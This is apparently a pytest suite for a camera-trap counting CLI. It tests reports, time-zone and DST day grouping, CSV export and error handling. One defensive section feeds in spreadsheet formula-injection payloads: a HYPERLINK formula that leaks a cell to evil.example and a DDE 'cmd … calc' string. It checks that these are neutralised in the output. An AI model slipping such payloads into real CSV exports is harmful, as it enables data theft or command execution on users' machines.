"""`trapcount report` and `export csv` over two traps' real databases in two time zones:
per-trap and combined counts equal the hand-computed truth, days are the traps' local days,
and bad input is one line."""

from __future__ import annotations

import csv
import io
import json
import sqlite3
from datetime import timedelta

import pytest
from click.testing import CliRunner

from edge_agent.cli import cli
from edge_agent.config import TrapSettings
from edge_agent.office.report_data import load, open_stores
from edge_agent.office.reports import build_report, spreadsheet_safe
from edge_agent.office.windows import Window, parse_bound, period_of
from edge_agent.store.database import Store
from tests.helpers.trap_databases import (
    MEADOW,
    MEADOW_EVENTS,
    TRUTH,
    Planned,
    build_trap_db,
    build_two_traps,
    closed_event,
    utc,
)


@pytest.fixture(scope="module")
def traps(tmp_path_factory):
    return build_two_traps(tmp_path_factory.mktemp("traps"))


def invoke(*args):
    result = CliRunner().invoke(cli, [str(a) for a in args])
    return result


def report_json(*args):
    result = invoke("report", "--format", "json", *args)
    assert result.exit_code == 0, result.output
    return json.loads(result.stdout)


def groups_by(data, key):
    """{period or deployment: {label: (events, count)}} from a JSON report's groups."""
    out: dict[str, dict[str, tuple[int, int]]] = {}
    for group in data["groups"]:
        out.setdefault(group[key], {})[group["label"]] = (group["events"], group["count"])
    return out


# -- totals -------------------------------------------------------------------------------


def test_each_trap_and_both_together_give_the_hand_computed_totals(traps):
    meadow, canyon = traps
    assert report_json("--db", meadow)["totals"] == dict(sorted(TRUTH["meadow"].items()))
    assert report_json("--db", canyon)["totals"] == dict(sorted(TRUTH["canyon"].items()))
    both = report_json("--db", meadow, "--db", canyon)
    assert both["totals"] == dict(sorted(TRUTH["combined"].items()))
    assert both["databases"] == [str(meadow), str(canyon)]
    # The JSON keeps the agent's keys; totals are sums of the events' MaxN.
    for label, total in both["totals"].items():
        assert total == sum(e["max_n"] for e in both["events"] if e["label"] == label)
        assert total == sum(c["count"] for c in both["counts"] if c["label"] == label)
    assert {d["deployment"]: d["timezone"] for d in both["deployments"]} == {
        "canyon": "America/Denver",
        "meadow": "Europe/Berlin",
    }
    assert sum(m["events"] for m in both["models"]) == 8
    assert {m["version"]: m["events"] for m in both["models"]} == {
        "a1a1a1a1a1a1": 1,
        "b2b2b2b2b2b2": 7,
    }


def test_by_deployment_gives_each_traps_figures(traps):
    data = report_json("--db", traps[0], "--db", traps[1], "--by", "deployment")
    per_trap = groups_by(data, "deployment")
    for trap in ("meadow", "canyon"):
        assert {label: count for label, (_, count) in per_trap[trap].items()} == TRUTH[trap]
    assert per_trap["meadow"]["deer"] == (2, 5)


def test_the_library_gives_the_same_figures_as_the_cli(traps):
    with open_stores([str(p) for p in traps]) as stores:
        combined = build_report(stores)
        alone = build_report(stores[1])
    assert combined["totals"] == TRUTH["combined"]
    assert alone["totals"] == TRUTH["canyon"]


# -- local days ---------------------------------------------------------------------------


def test_days_are_each_traps_local_days(traps):
    data = report_json("--db", traps[0], "--db", traps[1], "--by", "day")
    assert groups_by(data, "day") == TRUTH["by_day"]
    # Grouping by UTC day would give other figures: the truth tells the two apart.
    local_days = {
        day: {label: count for label, (_, count) in labels.items()}
        for day, labels in groups_by(data, "day").items()
    }
    assert local_days != TRUTH["by_utc_day"]


@pytest.mark.parametrize(
    ("zone", "before", "after"),
    [
        # 23:30 and 00:30 local: summer time in Berlin is UTC+2, in Denver UTC-6.
        ("Europe/Berlin", "2024-06-01T21:30:00", "2024-06-01T22:30:00"),
        ("America/Denver", "2024-06-02T05:30:00", "2024-06-02T06:30:00"),
    ],
)
def test_an_event_at_2330_and_one_at_0030_fall_on_two_local_days(tmp_path, zone, before, after):
    trap = TrapSettings(id="edge", timezone=zone, latitude=1.0, longitude=1.0)
    db = build_trap_db(
        tmp_path / "t.sqlite", trap, [Planned(before, {"deer": 1}), Planned(after, {"deer": 2})]
    )
    days = groups_by(report_json("--db", db, "--by", "day"), "day")
    assert days == {"2024-06-01": {"deer": (1, 1)}, "2024-06-02": {"deer": (1, 2)}}
    # The same midnight in --since/--until: the trap's local day.
    assert report_json("--db", db, "--until", "2024-06-01")["totals"] == {"deer": 1}
    assert report_json("--db", db, "--since", "2024-06-02")["totals"] == {"deer": 2}
    assert report_json("--db", db, "--since", "2024-06-02T00:00:00")["totals"] == {"deer": 2}


def test_local_hours_across_the_autumn_clock_change(tmp_path):
    """02:30 happens twice in Berlin on 2024-10-27: two hours, told apart by the offset."""
    trap = TrapSettings(id="dst", timezone="Europe/Berlin", latitude=1.0, longitude=1.0)
    events = [
        Planned("2024-10-27T00:30:00", {"fox": 1}),  # 02:30 CEST (+02:00)
        Planned("2024-10-27T01:30:00", {"fox": 2}),  # 02:30 CET (+01:00)
        Planned("2024-10-27T22:59:00", {"fox": 4}),  # 23:59 CET, still the 27th
    ]
    db = build_trap_db(tmp_path / "dst.sqlite", trap, events)
    hours = groups_by(report_json("--db", db, "--by", "hour"), "hour")
    assert list(hours) == [
        "2024-10-27T02:00+02:00",
        "2024-10-27T02:00+01:00",
        "2024-10-27T23:00+01:00",
    ]
    days = groups_by(report_json("--db", db, "--by", "day"), "day")
    assert days == {"2024-10-27": {"fox": (3, 7)}}  # a 25-hour local day


def test_weeks_are_iso_weeks_of_the_local_date(traps):
    data = report_json("--db", traps[0], "--db", traps[1], "--by", "week")
    weeks = {
        week: {label: count for label, (_, count) in labels.items()}
        for week, labels in groups_by(data, "week").items()
    }
    assert weeks == TRUTH["by_week"]


def test_a_date_range_is_each_traps_own_days(traps):
    data = report_json(
        "--db", traps[0], "--db", traps[1], "--since", "2024-06-02", "--until", "2024-06-02"
    )
    expected = {label: count for label, (_, count) in TRUTH["by_day"]["2024-06-02"].items()}
    assert data["totals"] == dict(sorted(expected.items()))
    assert data["filters"]["since"] == "2024-06-02T00:00:00 (each trap's local time)"


def test_a_time_with_an_offset_is_one_instant_for_every_trap(traps):
    data = report_json("--db", traps[0], "--db", traps[1], "--since", "2024-06-01T22:00:00Z")
    # Everything but meadow's 21:30 UTC event (23:30 in Berlin).
    expected = dict(TRUTH["combined"], deer=6, fox=2)
    assert data["totals"] == dict(sorted(expected.items()))
    until = report_json("--db", traps[1], "--until", "2024-06-02T00:30:00-06:00")
    assert until["totals"] == {"deer": 1}


def test_window_and_bounds_directly():
    since = parse_bound("2024-06-02")
    until = parse_bound("2024-06-02", end=True)
    window = Window(since, until)
    assert since.at("Europe/Berlin") == utc("2024-06-01T22:00:00")
    assert until.at("America/Denver") == utc("2024-06-03T06:00:00")
    assert window.contains(utc("2024-06-03T05:59:00"), "America/Denver")
    assert not window.contains(utc("2024-06-03T05:59:00"), "Europe/Berlin")
    assert period_of(utc("2024-06-02T05:30:00"), "America/Denver", "week") == "2024-W22"
    with pytest.raises(ValueError):
        parse_bound("yesterday")


# -- filters and formats ------------------------------------------------------------------


def test_label_filter(traps):
    data = report_json("--db", traps[0], "--db", traps[1], "--label", "deer", "--label", "fox")
    assert data["totals"] == {"deer": 8, "fox": 3}
    assert {e["label"] for e in data["events"]} == {"deer", "fox"}
    assert {c["label"] for c in data["counts"]} == {"deer", "fox"}


def test_table_by_day_exactly(traps):
    result = invoke("report", "--db", traps[0], "--db", traps[1], "--by", "day")
    assert result.exit_code == 0
    assert result.stdout == (
        "day         label       events  count  max_n\n"
        "----------  ----------  ------  -----  -----\n"
        "2024-06-01  deer             2      3      2\n"
        "2024-06-01  fox              1      1      1\n"
        "2024-06-02  automobile       1      1      1\n"
        "2024-06-02  deer             2      5      3\n"
        "2024-06-02  person           1      1      1\n"
        "2024-06-02  unknown          1      1      1\n"
        "2024-06-03  fox              1      2      2\n"
        "2024-06-08  boar             1      4      4\n"
    )


def test_default_table_starts_with_the_label_summary_and_lists_events(traps):
    result = invoke("report", "--db", traps[1])
    lines = result.stdout.splitlines()
    assert lines[0].split() == ["label", "events", "count", "max_n"]
    assert lines[2].split() == ["automobile", "1", "1", "1"]
    events = invoke("report", "--db", traps[1], "--by", "event").stdout.splitlines()
    assert events[0].split() == [
        "event", "trap", "start", "end", "label", "max_n", "frames", "confidence"
    ]  # fmt: skip
    assert events[2].split()[:6] == [
        "1", "canyon", "2024-06-01T23:30:00-06:00", "2024-06-01T23:30:42.500-06:00", "deer", "1"
    ]  # fmt: skip
    assert len(events) == 2 + 5


def test_csv_per_deployment_and_week(traps):
    result = invoke(
        "report", "--db", traps[0], "--db", traps[1], "--by", "deployment", "--by", "week",
        "--format", "csv",
    )  # fmt: skip
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert list(rows[0]) == ["deployment", "week", "label", "events", "count", "max_n"]
    meadow_w23 = [r for r in rows if r["deployment"] == "meadow" and r["week"] == "2024-W23"]
    assert meadow_w23 == [
        {
            "deployment": "meadow",
            "week": "2024-W23",
            "label": "boar",
            "events": "1",
            "count": "4",
            "max_n": "4",
        }
    ]
    assert sum(int(r["count"]) for r in rows) == sum(TRUTH["combined"].values())


@pytest.mark.parametrize(
    ("fmt", "expected"),
    [
        ("table", "label  events  count  max_n\n-----  ------  -----  -----\n"),
        (
            "csv",
            "deployment,trap_id,id,start,end,label,max_n,frames,tracks,confidence,model,"
            "illumination,privacy_suppressed,counted_by,machine,reviewed_by,reviewed_at,"
            "count_from_reviewer\n",
        ),
    ],
)
def test_an_empty_range_prints_an_empty_table_and_exits_0(traps, fmt, expected):
    result = invoke("report", "--db", traps[0], "--since", "2030-01-01", "--format", fmt)
    assert result.exit_code == 0
    assert result.stdout == expected


def test_an_empty_range_in_json_and_grouped(traps):
    data = report_json("--db", traps[0], "--until", "2001-01-01")
    assert data["totals"] == {} and data["events"] == [] and data["counts"] == []
    grouped = invoke("report", "--db", traps[0], "--until", "2001-01-01", "--by", "day")
    assert grouped.exit_code == 0
    assert grouped.stdout.splitlines()[0].split() == ["day", "label", "events", "count", "max_n"]
    assert len(grouped.stdout.splitlines()) == 2


def test_the_same_database_twice_counts_its_events_once(traps):
    result = invoke("report", "--db", traps[0], "--db", traps[0], "--format", "json")
    assert result.exit_code == 0
    assert json.loads(result.stdout)["totals"] == dict(sorted(TRUTH["meadow"].items()))
    assert "note: 4 event(s) found in more than one database were counted once" in result.stderr


def test_a_trap_that_moved_has_two_named_deployments(tmp_path):
    db = tmp_path / "moved.sqlite"
    with Store.open(db) as store:
        first = store.ensure_deployment(MEADOW, now=utc("2024-06-01T08:00:00"))
        store.write_event(closed_event(Planned("2024-06-01T10:00:00", {"deer": 1})), first)
        moved = MEADOW.model_copy(update={"latitude": 52.6})
        second = store.ensure_deployment(moved, now=utc("2024-06-05T08:00:00"))
        store.write_event(closed_event(Planned("2024-06-06T10:00:00", {"deer": 3})), second)
    data = report_json("--db", db, "--by", "deployment")
    assert groups_by(data, "deployment") == {
        "meadow-20240601": {"deer": (1, 1)},
        "meadow-20240605": {"deer": (1, 3)},
    }


# -- export csv ---------------------------------------------------------------------------


def test_export_csv_writes_events_and_local_day_counts(traps, tmp_path):
    out = tmp_path / "sheets"
    result = invoke("export", "csv", "--db", traps[0], "--db", traps[1], "--out", out)
    assert result.exit_code == 0, result.output
    assert result.stdout == f"wrote {out}: events.csv (10 rows), counts.csv (10 rows)\n"
    with (out / "events.csv").open(encoding="utf-8") as handle:
        events = list(csv.DictReader(handle))
    assert len(events) == 10
    assert events[0]["start"] == "2024-06-01T23:30:00+02:00"
    with (out / "counts.csv").open(encoding="utf-8") as handle:
        counts = list(csv.DictReader(handle))
    assert list(counts[0]) == ["deployment", "day", "label", "events", "count", "max_n"]
    canyon_jun1 = {r["label"]: int(r["count"]) for r in counts if r["deployment"] == "canyon"
                   and r["day"] == "2024-06-01"}  # fmt: skip
    assert canyon_jun1 == {"deer": 1}
    for trap in ("meadow", "canyon"):
        totals: dict[str, int] = {}
        for r in counts:
            if r["deployment"] == trap:
                totals[r["label"]] = totals.get(r["label"], 0) + int(r["count"])
        assert totals == TRUTH[trap]


# -- errors -------------------------------------------------------------------------------


def one_error_line(result) -> str:
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1, result.stderr
    assert lines[0].startswith("Error: ")
    return lines[0]


def test_a_missing_database_is_one_line(tmp_path):
    result = invoke("report", "--db", tmp_path / "nope.sqlite")
    assert result.exit_code == 1
    assert "no database at" in one_error_line(result)
    assert not (tmp_path / "nope.sqlite").exists()


def test_a_database_trapcount_did_not_make_is_one_line_and_gets_no_tables(tmp_path):
    other = tmp_path / "other.sqlite"
    with sqlite3.connect(other) as db:
        db.execute("CREATE TABLE birds (name TEXT)")
    db.close()
    result = invoke("report", "--db", other)
    assert result.exit_code == 1
    assert one_error_line(result).endswith("is not a trapcount database (no schema version)")
    with sqlite3.connect(other) as db:
        tables = {row[0] for row in db.execute("SELECT name FROM sqlite_master")}
    db.close()
    assert tables == {"birds"}


def test_a_file_that_is_not_a_database_is_one_line(tmp_path):
    text = tmp_path / "notes.txt"
    text.write_text("field notes, not a database\n" * 100)
    result = invoke("report", "--db", text)
    assert result.exit_code == 1
    assert "file is not a database" in one_error_line(result)


def test_a_url_without_its_driver_is_one_line(traps):
    result = invoke("report", "--db", "nosuchdb+nodriver://host/fleet")
    assert result.exit_code == 1
    one_error_line(result)


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["--since", "tuesday"], "Error: --since: not a date or ISO 8601 time: 'tuesday'"),
        (["--by", "day", "--by", "week"], "Error: --by: one period at a time, not day and week"),
        (["--by", "event", "--by", "day"], "Error: --by event lists the events; it does not "
         "combine with other --by"),
    ],
)  # fmt: skip
def test_bad_options_exit_2_in_one_line(traps, args, message):
    result = invoke("report", "--db", traps[0], *args)
    assert result.exit_code == 2
    assert one_error_line(result) == message


def test_the_rollup_agrees_with_the_events_in_local_days(traps):
    """The counts table (UTC-aligned 15-minute intervals) sums to the same per local day."""
    with open_stores([str(traps[1])]) as stores:
        data = load(stores)
    per_day: dict[str, int] = {}
    for row in data.rows:
        day = row.local().date().isoformat()
        per_day[day] = per_day.get(day, 0) + row.max_n
    rollup: dict[str, int] = {}
    for count in data.counts:
        day = count["interval_start"][:10]
        rollup[day] = rollup.get(day, 0) + count["count"]
    assert per_day == rollup == {"2024-06-01": 1, "2024-06-02": 4, "2024-06-03": 2}
    assert data.rows[0].end - data.rows[0].start == timedelta(seconds=42.5)


# -- CSV for spreadsheets -------------------------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'


@pytest.fixture
def formula_trap(tmp_path):
    """A foreign trap whose id and labels a spreadsheet would run as formulas."""
    trap = TrapSettings(id="@SUM(1+1)", timezone="Europe/Berlin", latitude=1.0, longitude=1.0)
    events = [
        Planned("2024-06-01T10:00:00", {FORMULA: 2, "-2+3": 1, "deer": 1}),
        Planned("2024-06-02T10:00:00", {"+cmd|' /C calc'!A0": 1, "\tdeer": 1}),
    ]
    return build_trap_db(tmp_path / "foreign.sqlite", trap, events)


def test_csv_cells_that_a_spreadsheet_would_run_are_text(formula_trap, tmp_path):
    labels = {FORMULA, "-2+3", "deer", "+cmd|' /C calc'!A0", "\tdeer"}
    defused = {f"'{label}" if label != "deer" else label for label in labels}
    result = invoke("report", "--db", formula_trap, "--format", "csv")
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert {r["label"] for r in rows} == defused
    assert {r["deployment"] for r in rows} == {"'@SUM(1+1)"}
    assert {r["trap_id"] for r in rows} == {"'@SUM(1+1)"}
    # numbers and times as they were
    assert rows[0]["start"] == "2024-06-01T12:00:00+02:00" and rows[0]["id"] == "1"
    assert {r["max_n"] for r in rows} == {"1", "2"}

    grouped = invoke("report", "--db", formula_trap, "--by", "day", "--format", "csv")
    assert {r["label"] for r in csv.DictReader(io.StringIO(grouped.stdout))} == defused

    out = tmp_path / "sheets"
    assert invoke("export", "csv", "--db", formula_trap, "--out", out).exit_code == 0
    for name in ("events.csv", "counts.csv"):
        with (out / name).open(encoding="utf-8") as handle:
            written = list(csv.DictReader(handle))
        assert {r["label"] for r in written} == defused, name
        assert {r["deployment"] for r in written} == {"'@SUM(1+1)"}, name


def test_numbers_negative_ones_included_and_times_are_not_touched():
    for value in (-5, -0.25, 3, "-5", "-1.5", "+2", "-1e5", "2024-06-01T23:30:00-06:00", None):
        assert spreadsheet_safe(value) == value
    for value in ("=1+1", "+1+1", "-1+1", "@A1", "\t=1", "\r=1", "-"):
        assert spreadsheet_safe(value) == "'" + value


def _read_only_command(folder, command: list[str]) -> list[str] | None:
    """``command`` run where ``folder`` is read-only media: a read-only bind mount in a
    private mount namespace (root, who may write any file), or the folder and its files
    made read-only (anyone else); None when neither works here."""
    import os
    import shlex
    import shutil
    import subprocess

    if os.geteuid() != 0:
        for path in [*folder.iterdir(), folder]:
            path.chmod(0o555 if path.is_dir() else 0o444)
        return command
    if shutil.which("unshare") is None:
        return None
    quoted = shlex.quote(str(folder))
    probe = subprocess.run(
        ["unshare", "-m", "sh", "-c", f"mount --bind {quoted} {quoted}"], capture_output=True
    )
    if probe.returncode != 0:
        return None
    script = (
        f"mount --bind {quoted} {quoted} && mount -o remount,bind,ro {quoted} {quoted} && "
        f"exec {shlex.join(command)}"
    )
    return ["unshare", "-m", "sh", "-c", script]


def test_report_reads_a_database_on_read_only_media(tmp_path):
    """An SD card mounted read-only: no -shm or lock file can be made beside the database,
    and nothing may be written to it. The report reads it all the same."""
    import subprocess

    from tests.helpers.media import subprocess_env, trapcount_command

    card = tmp_path / "card"
    card.mkdir()
    db = build_trap_db(card / "trap.sqlite", MEADOW, MEADOW_EVENTS)
    before = db.read_bytes()
    expected = report_json("--db", db)["totals"]
    assert db.read_bytes() == before  # (a writable report writes nothing either)
    assert not list(card.glob("trap.sqlite-*"))

    command = _read_only_command(card, trapcount_command("report", "--db", db, "--format", "json"))
    if command is None:
        pytest.skip("no way to make read-only media here (needs unshare as root, or non-root)")
    try:
        result = subprocess.run(
            command, env=subprocess_env(), capture_output=True, text=True, timeout=120
        )
    finally:
        for path in [card, *card.iterdir()]:
            path.chmod(0o755 if path.is_dir() else 0o644)
    assert result.returncode == 0, result.stderr
    assert json.loads(result.stdout)["totals"] == expected
    assert db.read_bytes() == before
